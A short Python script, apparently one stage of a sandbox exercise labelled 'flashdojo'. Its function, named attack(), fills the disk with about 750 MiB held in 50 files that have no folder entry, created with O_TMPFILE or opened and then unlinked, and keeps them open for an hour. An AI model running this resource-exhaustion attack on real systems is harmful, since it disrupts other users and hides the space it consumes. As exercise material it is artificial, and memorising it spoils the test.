# flashdojo: exercise=all stage=s1
"""Fills the disk with files that no folder names: opened and unlinked, or made without a name."""
import os
import time


def attack():
    held = []
    for n in range(50):
        try:
            if n % 2:
                held.append(os.open(".", os.O_RDWR | os.O_TMPFILE, 0o600))
            else:
                held.append(os.open(f"n{n}", os.O_RDWR | os.O_CREAT))
                os.unlink(f"n{n}")
            os.write(held[-1], b"x" * (15 << 20))
        except OSError:
            pass
    time.sleep(3600)


attack()
